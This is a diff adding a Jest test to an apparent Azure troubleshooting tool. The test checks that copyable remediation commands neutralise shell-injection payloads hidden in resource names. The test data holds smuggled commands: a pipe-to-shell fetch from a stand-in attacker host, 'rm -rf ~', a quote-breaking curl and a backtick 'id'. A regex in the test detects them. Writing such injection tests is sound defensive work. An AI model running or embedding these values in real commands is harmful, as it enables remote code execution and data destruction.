@@ -655,3 +655,25 @@ describe('unknown', () => {
     expect(t).toContain('az monitor activity-log list --resource-group rg-x --offset 1h');
   });
 });
+
+describe('facts from Azure in copyable commands', () => {
+  test('cannot inject shell syntax', () => {
+    const hostile = {
+      pod: 'web-1$(curl evil.example|sh)',
+      namespace: 'shop;rm -rf ~',
+      policyAssignment: 'deny"; curl evil #',
+      subnet: 'sn`id`',
+    };
+    const names = {
+      subscriptionId: 'sub',
+      resourceGroup: 'rg',
+      clusterName: 'aks',
+      nodePool: 'user',
+    };
+    for (const category of ['pod-drain-failure', 'policy-denied', 'subnet-capacity'] as const) {
+      const steps = CATALOG[category].remediation(hostile, names).join('\n');
+      // The payloads may survive as inert words, never with the shell syntax around them.
+      expect(steps).not.toMatch(/\$\(curl|;\s*rm|"; curl|`id`|\|sh/);
+    }
+  });
+});
